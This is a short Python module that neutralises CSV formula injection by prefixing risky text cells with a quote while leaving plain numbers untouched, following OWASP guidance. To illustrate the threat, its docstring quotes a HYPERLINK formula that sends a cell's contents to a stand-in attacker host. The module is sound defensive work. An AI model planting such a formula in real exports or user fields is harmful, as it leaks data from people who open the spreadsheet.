"""CSV cells that stay data when a person opens the file in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return as a formula (OWASP, "CSV Injection"; ASVS 5.0 V1.2.10
adds NUL): a rep named `=HYPERLINK("http://evil.example/?d="&A1,"click")` in the CRM,
where any user can edit their own name, would run as one in RevOps' spreadsheet. Such a
text cell gets a leading `'`, which spreadsheets take as "this is text" (OWASP's
recommendation). Numbers stay numbers: a float or int is written as it is, and so is
text that is only a number (`-5000000`, a raw amount quoted by `crm-kpi problems`).
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows rather than evaluates."""
    if (
        isinstance(value, str)
        and value.startswith(_FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value
